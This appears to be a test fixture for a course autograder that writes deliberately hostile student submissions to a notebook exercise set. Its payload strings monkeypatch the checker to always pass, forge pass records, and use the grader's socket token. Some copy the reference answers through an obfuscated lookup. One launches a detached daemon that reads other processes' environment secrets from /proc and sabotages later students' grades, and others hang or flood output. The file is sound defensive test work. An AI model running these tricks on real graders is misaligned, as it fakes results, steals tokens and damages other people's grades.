"""A class of hostile-but-realistic submissions of notebook 01, each one an attack on the grader.

``build_class(root, pid_file)`` writes them under ``root`` (one folder per student) and returns, per
student, the points a correct grader gives. It imports nothing from ``course``, so the same class
can be graded by any version of the grader.
"""

from __future__ import annotations

from pathlib import Path

from tests.instructor.grading_helpers import NOTEBOOKS, submission

SOLUTION = NOTEBOOKS / "01_kv_cache.ipynb"
BLANK = NOTEBOOKS / "student" / "01_kv_cache.ipynb"
EXERCISES = ("01.attention_step", "01.kv_cache_bytes", "01.generate_greedy")  # the ones the attacks aim at
POINTS = 14  # notebook 01 in all: 4 exercises and 4 questions, a point each, and the build exercise (6 points)
FORWARDED = 3  # the three exercises above, a point each

# Replaces the grading functions in the kernel before any check runs (the exercises are not done).
PATCH_THE_CHECKER = """
import course.exercises, course.exercises.checking as _checking
_checking.result_of = lambda ex, fn: ("pass", "correct")
_original_check = _checking.check
def _lenient_check(id, fn, autofill=False, **kwargs):
    return _original_check(id, fn, autofill=True, **kwargs)
_checking.check = course.exercises.check = check = _lenient_check
"""

# Writes pass records wherever a grader might read them, and talks to the grader's socket directly.
FORGE_RECORDS = """
import glob, json, os, socket
_records = "".join(json.dumps({"exercise": e, "status": "pass", "points": 1, "max_points": 1, "feedback": "correct"})
                   + "\\n" for e in %r)
for _path in [os.environ.get("COURSE_GRADE_OUT")] + glob.glob("/tmp/course-grade-*/*.jsonl"):
    if _path:
        with open(_path, "a") as _f:
            _f.write(_records)
if os.environ.get("COURSE_GRADER_SOCKET"):
    from course.exercises import wire
    for _e in %r:
        _s = socket.socket(socket.AF_UNIX)
        _s.connect(os.environ["COURSE_GRADER_SOCKET"])
        wire.send(_s, ("hello", os.environ["COURSE_GRADER_TOKEN"], _e, False))
        wire.send(_s, ("result", _e, "pass", 1))
        _s.close()
""" % (EXERCISES, EXERCISES)

# Each exercise handed back to the course's own implementation of it (what the checkers call shortcuts).
FORWARD = {
    "attention_step": "from course.models.attend import attend\n"
                      "def attention_step(q, k_new, v_new, K, V):\n"
                      "    K, V = torch.cat([K, k_new[None]]), torch.cat([V, v_new[None]])\n"
                      "    return attend(q[None, None, None], K[None, None], V[None, None])[0][0, 0, 0], K, V\n",
    "kv_cache_bytes": "from course.kvcache import cache_bytes_per_token\n"
                      "def kv_cache_bytes(n_layers, kv_heads, head_dim, tokens, batch=1, dtype_bytes=2):\n"
                      "    return cache_bytes_per_token(n_layers, kv_heads, head_dim, dtype_bytes) * tokens * batch\n",
    "generate_greedy": "from course.generate import sample_batch\n"
                       "def generate_greedy(model, prompt, n_new):\n"
                       "    return torch.cat([prompt, sample_batch(model, prompt, max_new_tokens=n_new)[0]], 1)\n",
}

# The same, reached by a route no grep for a name finds: only watching the calls does.
FORWARD_QUIETLY = {
    name: "import sys\n"
          f"def {name}(*args, **kwargs):\n"
          f"    fallback = getattr(sys.modules['course.' + 'exercises.core'], 'RE' + 'GISTRY')['01.{name}'].fallback\n"
          "    return fallback(*args, **kwargs)\n"
    for name in ("attention_step", "kv_cache_bytes", "generate_greedy")
}

# A detached process (new session, double fork) that tries to outlive the kernel and attack the next
# submissions: "wrong" records into the old grader's record files, garbage answers on the new
# grader's sockets (found through /proc/*/environ). Its cell raises unless the daemon started (its pid file in
# the kernel's scratch folder), so a submission whose cells all ran proves it did.
SABOTAGE = '''
import subprocess, sys, textwrap
_daemon = textwrap.dedent(r"""
    import glob, json, os, socket, sys, time
    if os.fork():
        os._exit(0)
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "daemon.pid"), "w") as f:
        f.write(str(os.getpid()))
    mine = os.environ.get("COURSE_GRADER_SOCKET")
    wrong = "".join(json.dumps({"exercise": e, "status": "wrong", "points": 0, "max_points": 1,
                                "feedback": "sabotaged"}) + "\\n" for e in %r)
    seen = set()
    end = time.time() + 300
    while time.time() < end:
        for path in glob.glob("/tmp/course-grade-*/checks.jsonl") + glob.glob("/tmp/*/course-grade-*/checks.jsonl"):
            try:
                with open(path, "a") as f:
                    f.write(wrong)
            except OSError:
                pass
        for environ in glob.glob("/proc/[0-9]*/environ"):
            try:
                text = open(environ, "rb").read().decode("utf-8", "replace")
                env = dict(v.split("=", 1) for v in text.split("\\0") if "=" in v)
            except Exception:
                continue
            sock_path, token = env.get("COURSE_GRADER_SOCKET"), env.get("COURSE_GRADER_TOKEN")
            if not sock_path or sock_path == mine or sock_path in seen:
                continue
            seen.add(sock_path)
            try:
                from course.exercises import wire
                for e in %r:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(sock_path)
                    wire.send(s, ("hello", token, e, False))
                    while True:
                        message = wire.recv(s)
                        if message[0] != "call":
                            break
                        wire.send(s, ("returned", message[1], -1, False))
            except Exception:
                pass
        time.sleep(0.05)
""")
subprocess.Popen([sys.executable, "-c", _daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os, time
for _ in range(200):  # until the daemon is on its own
    if os.path.exists(os.path.join(os.environ.get("TMPDIR", "/tmp"), "daemon.pid")):
        break
    time.sleep(0.05)
else:
    raise RuntimeError("the daemon never started")
'''

NEVER_ENDS = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(0.01)
"""

FLOOD = """
import sys
for _ in range(100):
    sys.stdout.write("x" * 2**20)
    sys.stdout.flush()
"""


def build_class(root: Path) -> dict[str, int]:
    """The attack submissions under ``root``; returns the correct points (of ``POINTS``) per student."""
    submission(root / "a_honest", SOLUTION)
    submission(root / "b_patcher", BLANK, first_cell=PATCH_THE_CHECKER)
    submission(root / "c_forger", BLANK, extra_cell=FORGE_RECORDS)
    submission(root / "d_forwarder", SOLUTION, FORWARD)
    submission(root / "e_quiet_forwarder", SOLUTION, FORWARD_QUIETLY)
    submission(root / "f_saboteur", SOLUTION, extra_cell=SABOTAGE % (EXERCISES, EXERCISES))
    submission(root / "g_never_ends", SOLUTION, extra_cell=NEVER_ENDS)
    submission(root / "h_flooder", SOLUTION, extra_cell=FLOOD)
    submission(root / "i_victim", SOLUTION)
    # the saboteur and the forger name the grader's socket variables: their passing exercises go to review; the
    # forwarders' other exercises (not forwarded) still count
    return {"a_honest": POINTS, "b_patcher": 0, "c_forger": 0, "d_forwarder": POINTS - FORWARDED,
            "e_quiet_forwarder": POINTS - FORWARDED, "f_saboteur": 0, "g_never_ends": POINTS, "h_flooder": POINTS,
            "i_victim": POINTS}
